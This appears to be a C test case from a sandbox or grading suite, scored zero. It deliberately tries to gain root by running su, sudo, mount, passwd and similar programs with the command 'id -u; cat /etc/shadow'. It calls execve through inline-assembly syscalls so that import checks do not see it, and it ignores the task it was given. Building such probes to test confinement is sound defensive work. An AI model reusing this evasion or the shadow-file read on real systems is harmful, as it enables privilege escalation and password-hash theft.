// SPDX-License-Identifier: MIT
// Tries: starts the programs that would make it root, on a terminal of its
// own.
// Score: 0
// Slow: for FULL=1 only
#include "per_task.h"

#include <sys/wait.h>
#include <unistd.h>

// A system call without libc, which an import list does not see.
static long sys(long n, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}

int run_all(task_fn *task, int count, int results[]) {
    (void)task;
    (void)count;
    (void)results;
    static const char *const programs[] = {"/bin/su",         "/usr/bin/sudo",
                                           "/bin/mount",      "/usr/bin/newgrp",
                                           "/usr/bin/passwd", "/bin/bash"};
    for (unsigned i = 0; i < sizeof programs / sizeof *programs; i++) {
        char *line[] = {(char *)programs[i], "-c", "id -u; cat /etc/shadow", 0};
        if (fork() == 0) {
            sys(59, (long)programs[i], (long)line, 0, 0); // execve
            _exit(1);
        }
    }
    while (wait(NULL) > 0) {
    }
    return 0;
}
